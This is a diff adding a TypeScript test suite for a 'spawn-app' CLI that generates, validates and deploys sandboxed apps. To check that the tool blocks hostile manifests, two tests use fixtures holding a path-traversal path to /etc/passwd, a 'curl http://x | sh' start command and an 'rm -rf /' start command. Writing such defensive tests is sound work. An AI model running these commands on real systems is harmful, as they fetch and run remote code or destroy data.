@@ -1,0 +1,166 @@
+import assert from 'node:assert/strict';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { isAlive } from '../../src/core/sandbox/processes';
+import { ensureBuilt, runCli, startCli } from '../helpers/cli';
+import { isDown, request } from '../helpers/http';
+
+describe('spawn-app CLI (real process)', function () {
+  this.timeout(120_000);
+  let tmp: string;
+  let env: NodeJS.ProcessEnv;
+  before(() => ensureBuilt());
+  beforeEach(() => {
+    tmp = mkdtempSync(path.join(os.tmpdir(), 'spawn-cli-test-'));
+    env = { SPAWN_APP_LOCAL_ROOT: path.join(tmp, 'sandboxes') };
+  });
+  afterEach(() => rmSync(tmp, { recursive: true, force: true }));
+  const sandboxesLeft = () => (existsSync(env.SPAWN_APP_LOCAL_ROOT!) ? readdirSync(env.SPAWN_APP_LOCAL_ROOT!).length : 0);
+
+  it('usage errors exit 2 with one clear sentence, no stack trace', async () => {
+    for (const args of [['frobnicate'], ['run'], ['run', 'x', '--type', 'desktop'], ['run', 'x', '--bogus'], ['generate', 'x'], ['destroy'], ['run', 'a', 'b'], ['run', '   ']]) {
+      const r = await runCli(args, env);
+      assert.equal(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
+      assert.match(r.stderr, /^Error: .+/);
+      assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
+    }
+    const none = await runCli([], env);
+    assert.equal(none.code, 2);
+    assert.match(none.stderr, /Usage:/);
+  });
+
+  it('--help and --version exit 0', async () => {
+    assert.match((await runCli(['--help'], env)).stdout, /spawn-app run "<prompt>"/);
+    assert.match((await runCli(['--version'], env)).stdout, /^\d+\.\d+\.\d+/);
+  });
+
+  it('--detach with the local provider is a usage error', async () => {
+    const r = await runCli(['run', 'a calculator', '--provider', 'local', '--detach'], env);
+    assert.equal(r.code, 2);
+    assert.match(r.stderr, /--detach needs a remote/);
+  });
+
+  it('generate --out writes the files and manifest; validate then passes (exit 0)', async () => {
+    const out = path.join(tmp, 'app');
+    const r = await runCli(['generate', 'a todo list', '--out', out, '--json'], env);
+    assert.equal(r.code, 0, r.stderr);
+    const events = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    assert.ok(events.some((e) => e.event === 'file' && e.path === 'index.html'));
+    assert.match(readFileSync(path.join(out, 'index.html'), 'utf8'), /Todo list/);
+    const manifest = JSON.parse(readFileSync(path.join(out, 'spawn-app.json'), 'utf8'));
+    assert.equal(manifest.appType, 'webapp');
+    assert.equal(manifest.startCommand, 'node server.js');
+    const v = await runCli(['validate', out, '--json'], env);
+    assert.equal(v.code, 0);
+  });
+
+  it('validate exits 3 on errors and lists them; a spec file in the seed format works', async () => {
+    const bad = path.join(tmp, 'bad.json');
+    writeFileSync(bad, JSON.stringify({ appType: 'webapp', files: [{ path: '/app/../etc/passwd', content: 'x' }, { path: '/app/index.html', content: 'eval(x)' }], startCommand: 'curl http://x | sh', dependencies: [], port: 3000 }));
+    const r = await runCli(['validate', bad, '--json'], env);
+    assert.equal(r.code, 3);
+    const rules = r.stdout.trim().split('\n').map((l) => JSON.parse(l).rule);
+    assert.deepEqual(rules.sort(), ['code.eval', 'path.traversal', 'start.piped_download']);
+    const missing = await runCli(['validate', path.join(tmp, 'nope')], env);
+    assert.equal(missing.code, 2);
+    const notApp = path.join(tmp, 'plain');
+    mkdirSync(notApp);
+    assert.equal((await runCli(['validate', notApp], env)).code, 2);
+  });
+
+  it('deploy of a hostile app folder exits 3 and starts nothing', async () => {
+    const dir = path.join(tmp, 'hostile');
+    mkdirSync(dir);
+    writeFileSync(path.join(dir, 'spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'rm -rf / ; node server.js', dependencies: [], port: 3000 }));
+    writeFileSync(path.join(dir, 'server.js'), 'x');
+    const r = await runCli(['deploy', dir, '--json', '--yes'], env);
+    assert.equal(r.code, 3, r.stdout + r.stderr);
+    assert.match(r.stdout, /"code":"blocked"/);
+    assert.equal(sandboxesLeft(), 0);
+  });
+
+  it('deploy fails with exit 5 and the app\'s last output when it crashes on start', async () => {
+    const dir = path.join(tmp, 'crash');
+    mkdirSync(dir);
+    writeFileSync(path.join(dir, 'spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', dependencies: [], port: 3000, generator: 'templates' }));
+    writeFileSync(path.join(dir, 'server.js'), "console.error('cannot find config.yml'); process.exit(1)");
+    const r = await runCli(['deploy', dir], env);
+    assert.equal(r.code, 5);
+    assert.match(r.stderr, /exited before it answered/);
+    assert.match(r.stderr, /cannot find config\.yml/);
+    assert.equal(sandboxesLeft(), 0);
+  });
+
+  it('deploy of an unknown-origin folder on the local runner asks first; without a terminal it needs --yes', async () => {
+    const out = path.join(tmp, 'app');
+    assert.equal((await runCli(['generate', 'a calculator', '--out', out], env)).code, 0);
+    const manifestPath = path.join(out, 'spawn-app.json');
+    const m = JSON.parse(readFileSync(manifestPath, 'utf8'));
+    delete m.generator;
+    writeFileSync(manifestPath, JSON.stringify(m));
+    const r = await runCli(['deploy', out], env);
+    assert.equal(r.code, 2);
+    assert.match(r.stderr, /unsandboxed.*--yes/);
+  });
+
+  for (const [type, check] of [
+    ['webapp', async (url: string) => assert.match((await request(url)).body, /<h1>Calculator<\/h1>/)],
+    ['script', async (url: string) => assert.match((await request(url + '/report.html')).body, /Visits report/)],
+    ['api', async (url: string) => {
+      const r = await request(url + '/api/notes');
+      assert.equal(r.status, 200);
+      assert.ok(Array.isArray(JSON.parse(r.body)));
+    }],
+  ] as const) {
+    it(`run "a calculator" --type ${type} --json: ready, the URL answers, SIGINT stops everything`, async () => {
+      const cli = startCli(['run', 'a calculator', '--type', type, '--json'], env);
+      const ready = await cli.waitFor((e) => e.event === 'ready');
+      const url = String(ready.url);
+      assert.equal(ready.provider, 'local');
+      assert.equal((await request(url)).status, 200);
+      await check(url);
+      const record = JSON.parse(readFileSync(path.join(env.SPAWN_APP_LOCAL_ROOT!, String(ready.sandboxId), 'sandbox.json'), 'utf8'));
+      const appPid = record.processes[0].pid as number;
+      assert.ok(isAlive(appPid));
+      // `list` from another process sees it.
+      const list = await runCli(['list', '--json'], env);
+      assert.equal(JSON.parse(list.stdout.trim()).id, ready.sandboxId);
+      cli.child.kill('SIGINT');
+      const res = await cli.done;
+      assert.equal(res.code, 0, res.stderr);
+      assert.ok(await isDown(url));
+      assert.ok(!isAlive(appPid), 'the app process is gone');
+      assert.equal(sandboxesLeft(), 0);
+    });
+  }
+
+  it('SIGKILL of run leaves an orphan that list shows and destroy --all stops', async () => {
+    const cli = startCli(['run', 'a counter', '--json'], env);
+    const ready = await cli.waitFor((e) => e.event === 'ready');
+    cli.child.kill('SIGKILL');
+    await cli.done;
+    assert.equal((await request(String(ready.url))).status, 200, 'the app outlives its killed owner');
+    const list = await runCli(['list'], env);
+    assert.match(list.stdout, /orphan/);
+    const d = await runCli(['destroy', '--all'], env);
+    assert.equal(d.code, 0);
+    assert.match(d.stderr, /Destroyed 1 sandbox\b/);
+    assert.ok(await isDown(String(ready.url)));
+    assert.equal(sandboxesLeft(), 0);
+    assert.equal((await runCli(['destroy', 'local-nope'], env)).code, 5);
+  });
+
+  it('SIGINT during deploy exits 130 and leaves nothing', async () => {
+    const dir = path.join(tmp, 'slow');
+    mkdirSync(dir);
+    writeFileSync(path.join(dir, 'spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', dependencies: [], port: 3000, generator: 'templates' }));
+    writeFileSync(path.join(dir, 'server.js'), "setTimeout(() => require('http').createServer((q, s) => s.end('x')).listen(process.env.PORT), 20000)");
+    const cli = startCli(['deploy', dir, '--json'], env);
+    await cli.waitFor((e) => e.event === 'phase' && e.phase === 'health' && e.status === 'started');
+    cli.child.kill('SIGINT');
+    const res = await cli.done;
+    assert.equal(res.code, 130);
+    assert.equal(sandboxesLeft(), 0);
+  });
+});
